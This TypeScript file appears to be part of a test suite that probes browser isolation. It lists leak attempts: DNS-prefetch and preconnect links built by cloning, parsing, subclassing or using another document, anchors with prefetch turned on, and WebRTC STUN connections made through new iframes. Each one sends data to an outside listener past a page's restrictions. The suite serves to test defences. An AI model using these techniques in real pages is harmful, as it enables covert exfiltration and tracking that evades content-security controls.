import { type LeakAttempt, type LeakTarget, PAGE } from './attempt.ts';

function named(name: string, run: (target: LeakTarget) => unknown): LeakAttempt {
  // A headless Chromium looks none of them up without a name server of its own, which the suite of three engines has.
  return { name: `name-${name}`, row: 23, contexts: PAGE, arrivesAt: 'recorder', blind: true, run };
}

/** Connects by the constructor of the first frame that has one; frames of other hosts, which other attempts made, let nobody look. */
const CONNECT = `
  let Fresh;
  for (let at = 0; at < window.length && Fresh === undefined; at++) {
    try { Fresh = window[at].RTCPeerConnection; } catch {}
  }
  if (Fresh === undefined) return;
  const connection = new Fresh({ iceServers: [{ urls: 'stun:LISTENER' }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());`;

/** @param making code that puts a frame into the page */
function framed(name: string, making: string): LeakAttempt {
  const run = `(async () => { ${making} ${CONNECT} })()`;
  return { name: `rtc-${name}`, row: 10, contexts: PAGE, arrivesAt: 'listener', run };
}

/** Ways to have the name of a host looked up, which carries data by itself, and to a fresh window by text. */
export const BY_NAME: readonly LeakAttempt[] = [
  named('dns-prefetch', ({ address }) => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('preconnect', ({ secure }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('copied-link', ({ secure }) => {
    const link = document.querySelector('link')?.cloneNode() as HTMLLinkElement;
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('copied-link-looked-up', ({ address }) => {
    const link = document.importNode(document.querySelector('link')!);
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('changed-link', ({ address }) => {
    const link = document.querySelector('link')!;
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('link-of-text', ({ secure }) => {
    document.body.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="${secure}">`);
  }),
  named('link-of-another-document', ({ secure }) => {
    const link = document.implementation.createHTMLDocument('').createElement('link');
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('link-of-a-class', ({ secure }) => {
    const Made = class extends HTMLLinkElement {};
    customElements.define('leak-link', Made, { extends: 'link' });
    const link = new Made();
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('anchor', ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.textContent = 'x';
    document.body.append(anchor);
  }),
  named('anchor-allowed', ({ address }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'x-dns-prefetch-control';
    meta.content = 'on';
    document.head.append(meta);
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.textContent = 'x';
    document.body.append(anchor);
  }),
  framed('frame-of-text', `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');`),
  framed(
    'frame-of-a-template',
    `const template = document.createElement('template');
     template.innerHTML = '<iframe></iframe>';
     document.body.append(document.importNode(template.content, true));`,
  ),
  framed(
    'frame-of-parsed-text',
    `const text = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>';
     document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
  ),
];
